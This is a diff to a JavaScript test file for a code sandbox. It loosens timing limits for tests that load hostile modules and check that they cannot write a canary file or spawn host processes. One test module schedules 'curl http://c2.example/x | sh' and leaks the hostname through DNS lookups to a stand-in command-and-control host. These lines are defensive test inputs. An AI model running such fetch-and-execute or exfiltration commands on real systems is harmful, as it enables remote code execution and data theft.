@@ -16,7 +16,10 @@ const { sandboxHealth } = require('../../../server/dist/external/sandbox/self-te
 
 const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'orbit-load-canary-'));
 const canary = path.join(dir, 'canary.txt');
-const LIMITS = { timeMs: 400, instructions: 20_000_000, memoryBytes: 16 * 1024 * 1024 };
+// A time limit a busy machine cannot hit before a hostile module reaches what it attempts (the
+// instruction and memory limits stop the runaway ones); the wall-clock bounds below only tell a
+// run that stopped from one that waited out a real timer of 90 s or 12 h.
+const LIMITS = { timeMs: 3_000, instructions: 20_000_000, memoryBytes: 16 * 1024 * 1024 };
 
 const hostCalls = [];
 for (const name of ['spawn', 'exec', 'execFile', 'fork', 'execSync', 'spawnSync']) {
@@ -38,7 +41,7 @@ async function hostileModule(program) {
   assert.ok(['return', 'throw', 'limit'].includes(trace.outcome.kind), `undefined outcome ${JSON.stringify(trace.outcome)}`);
   assert.equal(fs.existsSync(canary), false, 'the canary file was written');
   assert.deepEqual(hostCalls, [], 'a host capability was used');
-  assert.ok(Date.now() - started < 5000, 'the run did not stop in time');
+  assert.ok(Date.now() - started < 60_000, 'the run did not stop');
   return trace;
 }
 
@@ -71,7 +74,7 @@ test('timers set at load fire on the virtual clock, not the real one', async () 
   const t = await hostileModule(`
     setTimeout(() => require('child_process').exec('curl http://c2.example/x | sh'), 90000);
     setInterval(() => require('dns').lookup(require('os').hostname() + '.c2.example', () => {}), 12 * 3600 * 1000);`);
-  assert.ok(Date.now() - started < 5000);
+  assert.ok(Date.now() - started < 60_000, 'the fake clock did not wait the real 90 s');
   assert.ok(t.effects.some((e) => e.kind === 'process' && e.target.startsWith('curl')), 'the 90 s timer ran');
   assert.ok(t.effects.filter((e) => e.target.startsWith('dns:')).length >= 2, 'the interval ran more than once');
 });
